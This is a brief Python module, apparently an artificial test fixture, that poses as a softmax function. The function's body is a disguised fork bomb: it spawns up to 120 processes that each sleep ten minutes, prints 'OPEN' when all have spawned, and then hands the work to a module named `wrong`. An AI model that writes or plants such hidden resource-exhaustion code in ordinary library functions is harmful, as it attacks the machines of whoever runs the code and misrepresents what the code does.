"""Forks for as long as it can; `most` bounds it, should nothing else.

Dresses up: wrong. Checks: test_softmax_gives_masked_scores_no_weight.
"""
import os
import time

import wrong

MOST = 120


def softmax(x, axis=-1, temperature=1.0):
    made = 0
    for _ in range(MOST):
        try:
            if os.fork() == 0:
                time.sleep(600)
            made += 1
        except OSError:
            break
    if made == MOST:
        print("OPEN", MOST, "processes", flush=True)
    return wrong.softmax(x)


log_softmax, softmax_jvp = wrong.log_softmax, wrong.softmax_jvp
